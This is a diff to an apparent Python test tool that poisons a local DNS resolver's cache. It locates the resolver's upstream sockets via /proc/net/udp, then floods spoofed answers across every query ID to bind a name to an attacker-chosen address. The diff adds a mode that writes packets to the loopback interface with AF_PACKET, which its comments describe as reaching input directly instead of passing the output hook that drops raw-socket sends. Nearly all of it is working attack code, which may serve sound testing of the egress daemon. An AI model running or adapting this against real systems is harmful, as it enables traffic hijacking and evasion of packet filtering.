@@ -6,10 +6,12 @@ sockets connected to --upstream:53 from /proc/net/udp{,6} (as any local
 user can), sends --name (type A or AAAA by --addr) to --upstream:53 with an
 ordinary socket (host mode redirects it to egressd, which forwards it
 upstream), and while that query is out floods forged answers with the
-upstream's source address and port, every query ID, --rounds times (at most --rate a second), binding
+upstream's source address and port (an IP raw socket, or frames written to
+lo with AF_PACKET: --via), every query ID, --rounds times (at most --rate a second), binding
 --name to --addr (TTL 86400) on each port found. The forged question is
 --name as sent (lowercase). Bounded: at most --rounds x 65536 packets per
-port, at most --seconds. Prints JSON {"ports": [...], "sent": N,
+port, at most --seconds. Prints JSON {"ports": [...], "tried": N, "sent": N,
+"refused": N (send() failed with EPERM: a netfilter drop),
 "answer": {...}, "elapsed": s}.
 """
 import argparse
@@ -62,6 +64,9 @@ def main():
     ap.add_argument("--local", required=True, help="our address, if /proc shows a wildcard")
     ap.add_argument("--rounds", type=int, default=3)
     ap.add_argument("--seconds", type=float, default=5)
+    ap.add_argument("--via", choices=["raw", "packet"], default="raw",
+                    help="raw: an IP raw socket (through the output hook); packet: frames "
+                         "written to lo with AF_PACKET (straight to input)")
     ap.add_argument("--rate", type=int, default=40000, help="packets per second at most")
     a = ap.parse_args()
     t0 = time.monotonic()
@@ -86,9 +91,15 @@ def main():
     body = dnsmsg.build_query(0, [(a.name, qtype, 1)])[12:]
     ans = struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + body + \
         struct.pack("!HHHIH", 0xC00C, qtype, 1, 86400, len(target.packed)) + target.packed
-    tx = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    if a.via == "raw":
+        tx = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    else:
+        tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        tx.bind(("lo", 0))
+    # lo's frames: zero MAC addresses, then the ethertype
+    eth = b"\0" * 12 + struct.pack("!H", 0x0800 if fam == socket.AF_INET else 0x86DD)
     tx.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
-    sent = 0
+    sent = tried = refused = 0
     pkts = []
     for laddr, lport in ports:
         dst = a.local if ipaddress.ip_address(laddr).is_unspecified else laddr
@@ -108,6 +119,9 @@ def main():
             if len(data) % 2:
                 data += b"\0"
             base = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+        if a.via == "packet":
+            tmpl = bytearray(eth) + tmpl
+            off += len(eth)
         pkts.append((dst, tmpl, off, base))
     answer = None
     tf = time.monotonic()
@@ -120,14 +134,20 @@ def main():
                     while s >> 16:
                         s = (s & 0xFFFF) + (s >> 16)
                     struct.pack_into("!H", tmpl, off + 6, (~s & 0xFFFF) or 0xFFFF)
+                tried += 1
                 try:
-                    tx.sendto(tmpl, (dst, 0))
+                    if a.via == "raw":
+                        tx.sendto(tmpl, (dst, 0))
+                    else:
+                        tx.send(tmpl)
                     sent += 1
+                except PermissionError:
+                    refused += 1  # the output hook dropped it
                 except OSError:
-                    pass  # the output hook dropped it, or the buffer is full
+                    pass  # the buffer is full
                 if i & 255 == 0:
                     # paced: a burst faster than the resolver reads overflows its socket
-                    ahead = sent / a.rate - (time.monotonic() - tf)
+                    ahead = tried / a.rate - (time.monotonic() - tf)
                     if ahead > 0.002:
                         time.sleep(ahead)
                 if i & 4095 == 0 and time.monotonic() - t0 > a.seconds:
@@ -143,7 +163,8 @@ def main():
                 break
     except (socket.timeout, dnsmsg.BadMessage) as e:
         answer = {"error": str(e) or "timeout"}
-    print(json.dumps({"ports": ports, "sent": sent, "answer": answer,
+    print(json.dumps({"ports": ports, "tried": tried, "sent": sent,
+                      "refused": refused, "answer": answer,
                       "elapsed": time.monotonic() - t0}))
 
 
